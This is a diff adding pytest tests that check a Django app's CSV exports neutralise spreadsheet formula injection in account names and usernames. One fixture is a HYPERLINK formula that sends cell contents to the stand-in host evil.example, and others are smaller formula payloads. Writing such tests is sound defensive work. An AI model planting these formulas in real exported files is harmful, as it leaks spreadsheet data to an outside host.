@@ -2,6 +2,7 @@
 
 import csv
 import io
+import string
 from decimal import Decimal
 
 import pytest
@@ -114,3 +115,45 @@ def test_a_csm_cannot_download_the_portfolio(client, alice, book):
         client.get(reverse("portfolio"), {"format": "csv", "table": "books_by_csm"}).status_code
         == 403
     )
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+
+
+def test_the_book_csv_neutralises_a_formula_in_an_account_name(client, alice):
+    make_account(csm=alice, name=HOSTILE)
+    client.force_login(alice)
+    rows = read(client.get(reverse("home"), {"format": "csv"}))
+    assert rows[0]["account"] == "'" + HOSTILE
+
+
+def test_the_riskiest_accounts_csv_neutralises_a_formula_in_an_account_name(client, alice, vera):
+    give_health(make_account(csm=alice, name="@SUM(1+1)"), overall=10, rag="red")
+    client.force_login(vera)
+    response = client.get(reverse("portfolio"), {"format": "csv", "table": "riskiest_accounts"})
+    assert [row["account"] for row in read(response)] == ["'@SUM(1+1)"]
+
+
+def test_the_books_by_csm_csv_neutralises_a_formula_in_a_username(client, vera):
+    from accounts.services import user_create_with_role
+
+    csm = user_create_with_role(username="-2+3", role="csm", password="x-long-password")
+    give_health(make_account(csm=csm), overall=10, rag="red")
+    client.force_login(vera)
+    response = client.get(reverse("portfolio"), {"format": "csv", "table": "books_by_csm"})
+    assert [row["csm"] for row in read(response)] == ["'-2+3"]
+
+
+@pytest.mark.parametrize("table", list(PORTFOLIO_TABLES))
+def test_each_portfolio_table_is_written_by_the_spreadsheet_safe_writer(
+    client, vera, book, table, monkeypatch
+):
+    """Made to treat every lower-case letter as a formula start, the writer must quote each
+    column name: proof that the table goes through it, whatever its cells hold."""
+    from candor import spreadsheet
+
+    monkeypatch.setattr(spreadsheet, "FORMULA_STARTS", tuple(string.ascii_lowercase))
+    client.force_login(vera)
+    response = client.get(reverse("portfolio"), {"format": "csv", "table": table})
+    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert all(name.startswith("'") for name in header)
